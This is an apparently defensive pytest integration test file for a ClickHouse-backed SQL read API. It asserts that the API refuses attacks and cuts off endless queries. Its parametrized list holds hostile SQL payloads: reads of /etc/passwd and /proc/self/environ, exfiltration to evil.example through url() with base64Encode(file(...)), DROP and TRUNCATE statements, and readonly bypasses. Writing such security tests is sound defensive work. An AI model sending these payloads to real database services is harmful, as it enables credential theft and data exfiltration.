"""The sink's SQL read API under attack, through the real sink process, broker and chdb.

Each attack asserts that it was refused and *why* (which layer said no: the HTTP door, the
AST allow-list, or ClickHouse's own read-only/limit settings). The endless query is cut at
its limit while the sink keeps inserting, and a client that hangs up gets its query killed.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import orjson
import pytest

from tests.support import faultkit as fk
from tests.support.waiting import wait_until
from wirecore.settings import load_settings
from wirestream.owner_api import read_owner, token_file

pytestmark = pytest.mark.integration
QUERY_LIMIT_S = 6
# 200 items, joined with themselves six times: 6.4e13 rows, never finishes on its own
ENDLESS = "SELECT count() FROM items AS a, items AS b, items AS c, items AS d, items AS e, items AS f"


@pytest.fixture(scope="module")
def api(tmp_path_factory, kafka_bootstrap):
    """A sink with 200 stored items; yields (settings, url, token, sink)."""
    tmp = tmp_path_factory.mktemp("sqlapi")
    env = dict(os.environ) | {
        "WIRESTREAM_KAFKA_BOOTSTRAP": kafka_bootstrap,
        "WIRESTREAM_TOPIC_PREFIX": f"t{time.time_ns() % 10**8}.",
        "WIRESTREAM_DATA_DIR": str(tmp / "data"),
        "WIRESTREAM_METRICS_PORT": "0",
        "WIRESTREAM_TOPIC_PARTITIONS": "1",
        "WIRESTREAM_SINK_BATCH_MS": "200",
        "WIRESTREAM_API_QUERY_TIMEOUT_S": str(QUERY_LIMIT_S),
        "WIRESTREAM_ENV_FILE": os.devnull,
    }
    saved = dict(os.environ)
    os.environ.update(env)
    s = load_settings()
    fk.setup_topics(s)
    stream = fk.Stream()
    fk.produce(s, stream, 200)
    sink = fk.SinkProcess(env, tmp / "sink.log")
    sink.start()
    try:
        fk.wait_drained(s, sink)
        owner = wait_until(lambda: read_owner(s.data_dir), 60, "the sink's read API")
        yield s, owner["url"], owner["token"], sink, stream
    finally:
        sink.stop()
        os.environ.clear()
        os.environ.update(saved)


def post(url: str, token: str | None, sql: str, *, headers: dict | None = None, timeout: float = 30,
         body: bytes | None = None) -> httpx.Response:
    h = {"Content-Type": "application/json"}
    if token:
        h["Authorization"] = f"Bearer {token}"
    h |= headers or {}
    return httpx.post(f"{url}/sql", content=body if body is not None else orjson.dumps({"sql": sql}),
                      headers=h, timeout=timeout)


def refused(r: httpx.Response, status: int, reason: str) -> None:
    assert r.status_code == status, r.text
    assert reason in r.json()["error"], r.json()["error"]


def test_a_plain_read_works(api):
    s, url, token, _, _ = api
    r = post(url, token, "SELECT count() FROM items")  # unqualified: the configured database
    assert r.status_code == 200 and r.json()["rows"] == [[200]], r.text


def test_token_file_is_private(api):
    s, *_ = api
    assert token_file(s.data_dir).stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(("sql", "reason"), [
    ("SELECT * FROM file('/etc/passwd', 'LineAsString')", "table functions are not allowed: file()"),
    ("SELECT * FROM file('/proc/self/environ', 'LineAsString')", "table functions are not allowed: file()"),
    ("SELECT file('/proc/self/environ')", "function file() is not allowed"),
    # an alias used to hide the function's name from the allow-list (the file was read)
    ("SELECT file('/proc/self/environ') AS e", "function file() is not allowed"),
    ("SELECT length(file('/etc/passwd') AS p)", "function file() is not allowed"),
    ("SELECT * FROM url('http://127.0.0.1:9/x', 'CSV')", "table functions are not allowed: url()"),
    ("SELECT * FROM url(concat('http://evil.example/?', base64Encode(file('/etc/passwd'))), 'CSV')",
     "table functions are not allowed: url()"),
    ("SELECT count() FROM items WHERE item_id IN "
     "(SELECT * FROM url('http://evil.example/' || file('/etc/hostname'), 'LineAsString'))",
     "table functions are not allowed: url()"),
    ("SELECT * FROM s3('http://127.0.0.1:9/bucket/x.csv')", "table functions are not allowed: s3()"),
    ("SELECT * FROM remote('127.0.0.1:9000', system.one)", "table functions are not allowed: remote()"),
    ("SELECT * FROM numbers(10000000000000)", "table functions are not allowed: numbers()"),
    ("SELECT name FROM system.tables", "only the wirestream database can be read, not system.tables"),
    ("SELECT count() FROM items WHERE 1 IN system.one", "only the wirestream database"),
    ("DROP TABLE items", "SELECT or DESCRIBE only"),
    ("TRUNCATE TABLE items", "SELECT or DESCRIBE only"),
    ("INSERT INTO items (item_id) VALUES ('x')", "SELECT or DESCRIBE only"),
    ("SELECT 1; DROP TABLE items", "Multi-statements are not allowed"),
    ("SELECT 1 SETTINGS readonly = 0", "SETTINGS clauses are not allowed"),
    ("SELECT 1 SETTINGS max_execution_time = 0", "SETTINGS clauses are not allowed"),
    ("SET readonly = 0", "SELECT or DESCRIBE only"),
    ("SELECT 1 INTO OUTFILE '/tmp/wirestream-pwned'", "INTO OUTFILE and FORMAT clauses are not allowed"),
    ("KILL QUERY WHERE 1", "SELECT or DESCRIBE only"),
])
def test_attack_is_refused(api, sql, reason):
    s, url, token, _, _ = api
    refused(post(url, token, sql), 400, reason)
    assert post(url, token, "SELECT count() FROM items").json()["rows"] == [[200]]  # still there


def test_cross_origin_text_plain_post_is_refused(api):
    s, url, token, _, _ = api
    # what a web page can send without a preflight: no token, text/plain, a foreign Origin
    r = post(url, None, "SELECT 1", headers={"Content-Type": "text/plain", "Origin": "http://evil.example"})
    refused(r, 403, "cross-origin request refused")
    # even with the token, a foreign origin or a rebinding Host is refused
    refused(post(url, token, "SELECT 1", headers={"Origin": "http://evil.example"}), 403, "cross-origin")
    refused(post(url, token, "SELECT 1", headers={"Host": "evil.example"}), 403, "unexpected Host header")
    refused(post(url, token, "SELECT 1", headers={"Content-Type": "text/plain"}), 415, "application/json")


def test_missing_or_wrong_token_is_refused(api):
    s, url, token, _, _ = api
    refused(post(url, None, "SELECT 1"), 401, "missing or wrong token")
    refused(post(url, token[:-1] + ("A" if token[-1] != "A" else "B"), "SELECT 1"), 401, "missing or wrong token")
    refused(post(url, token, "", body=b"sql=SELECT+1"), 400, "bad request body")


def test_huge_result_is_cut(api):
    s, url, token, _, _ = api
    r = post(url, token, "SELECT * FROM items AS a, items AS b, items AS c")  # 8 million rows
    assert r.status_code == 400, r.text[:300]
    assert "TOO_MANY_ROWS_OR_BYTES" in r.json()["error"] or "MEMORY_LIMIT" in r.json()["error"], r.json()


def test_endless_query_is_cut_while_the_sink_keeps_inserting(api):
    s, url, token, sink, stream = api

    def store_300(what: str) -> float:
        """Seconds from producing 300 story events to the sink committing them."""
        start, t0 = fk.sink_committed(s), time.monotonic()
        fk.produce(s, stream, 300)
        wait_until(lambda: fk.sink_committed(s) >= start + 300, QUERY_LIMIT_S, what, interval=0.05,
                   detail=lambda: sink.log.read_text()[-2000:])
        return time.monotonic() - t0

    baseline = store_300("the sink to store 300 items (no query running)")
    out: dict = {}

    def endless() -> None:
        t0 = time.monotonic()
        out["response"] = post(url, token, ENDLESS, timeout=60)
        out["elapsed"] = time.monotonic() - t0

    reader = threading.Thread(target=endless)
    reader.start()
    time.sleep(0.5)
    stored_s = store_300("the sink to store 300 items while the endless query runs")
    assert reader.is_alive(), "the endless query ended before the inserts: nothing was proven"
    reader.join(60)
    print(f"\n[endless query] 300 items stored in {stored_s:.2f}s while it ran vs {baseline:.2f}s without "
          f"(ratio {stored_s / baseline:.2f}); query cut after {out['elapsed']:.2f}s (limit {QUERY_LIMIT_S}s)")
    refused(out["response"], 400, "TIMEOUT_EXCEEDED")
    assert QUERY_LIMIT_S - 0.5 <= out["elapsed"] <= QUERY_LIMIT_S + 4
    after = post(url, token, "SELECT count() FROM items")
    assert after.json().get("rows") == [[800]], after.text


def test_a_client_that_hangs_up_gets_its_query_killed(api):
    s, url, token, sink, _ = api
    for _ in range(2):  # both read handles of the pool
        with pytest.raises(httpx.ReadTimeout):
            post(url, token, ENDLESS, timeout=1)
    t0 = time.monotonic()
    r = post(url, token, "SELECT count() > 0 FROM items", timeout=30)
    took = time.monotonic() - t0
    assert r.status_code == 200 and r.json()["rows"] == [[1]], r.text
    # without the kill both handles would stay busy until the limit (QUERY_LIMIT_S)
    assert took < QUERY_LIMIT_S - 2, f"a read waited {took:.1f}s: abandoned queries kept running"


def test_only_health_endpoints_on_the_metrics_listener(api):
    s, url, token, sink, _ = api
    log = sink.log.read_text()
    assert "SQL read API on http://127.0.0.1:" in log
    port = int(log.split("/metrics, /healthz, /readyz on ")[1].split()[0].rsplit(":", 1)[1])
    base = f"http://127.0.0.1:{port}"
    assert httpx.get(f"{base}/healthz", timeout=5).json() == {"status": "alive"}
    assert "wirestream_" in httpx.get(f"{base}/metrics", timeout=5).text
    assert httpx.post(f"{base}/sql", json={"sql": "SELECT 1"}, timeout=5).status_code == 404


def test_wirestream_sql_goes_through_the_api_read_only(api):
    s, url, token, sink, _ = api
    cli = [str(Path(sys.executable).parent / "wirestream"), "sql", "--json"]
    p = subprocess.run([*cli, "SELECT count() > 0 AS some FROM items"], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0 and p.stdout.strip() == '{"some":1}', p
    p = subprocess.run([*cli, "DROP TABLE items"], capture_output=True, text=True, timeout=60)
    assert p.returncode == 2 and "SELECT or DESCRIBE only" in p.stderr, p
    p = subprocess.run([*cli, "--write", "DROP TABLE items"], capture_output=True, text=True, timeout=60)
    assert p.returncode == 2 and "owns the embedded database" in p.stderr, p
    assert post(url, token, "SELECT count() > 0 FROM items").json()["rows"] == [[1]]
